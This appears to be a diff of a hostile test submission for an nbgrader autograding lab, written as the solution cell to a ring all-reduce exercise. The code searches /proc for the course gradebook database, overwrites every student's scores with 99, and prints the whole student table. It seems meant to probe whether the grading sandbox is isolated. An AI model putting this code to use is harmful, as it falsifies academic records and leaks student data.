@@ -1,14 +1,16 @@
 # /// shardlab-submission
 # lab = "03_ring_all_reduce"
 # kind = "theft"
-# tries = "the gradebook, to read and to write, and nbgrader's own API"
+# tries = "the gradebook, to read and to write, also as nbgrader opens it"
 # seen_by = "loot"
 # state = "graded"
 # ///
 # %% nbgrader={"grade_id": "chunk_bounds", "solution": true}
 import glob, sqlite3
 paths = ["@COURSE@/grading/gradebook.db", "gradebook.db", "../gradebook.db", "../../gradebook.db"]
-for path in paths + glob.glob("/proc/[0-9]*/cwd/**/gradebook.db", recursive=True):
+for below in ("", "*/", "*/*/"):
+    paths += glob.glob(f"/proc/[0-9]*/cwd/{below}gradebook.db")
+for path in paths:
     try:
         with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as db:
             db.execute("update grade set manual_score = 99, auto_score = 99")
@@ -16,9 +18,9 @@ for path in paths + glob.glob("/proc/[0-9]*/cwd/**/gradebook.db", recursive=True
     except sqlite3.Error:
         pass
 try:
-    from nbgrader.api import Gradebook
-    with Gradebook("sqlite:///@COURSE@/grading/gradebook.db") as book:
-        print("LO" "OT:", len(book.students))
+    from sqlalchemy import create_engine, text
+    with create_engine("sqlite:///@COURSE@/grading/gradebook.db").connect() as book:
+        print("LO" "OT:", book.execute(text("select * from student")).all())
 except Exception:
     pass
 
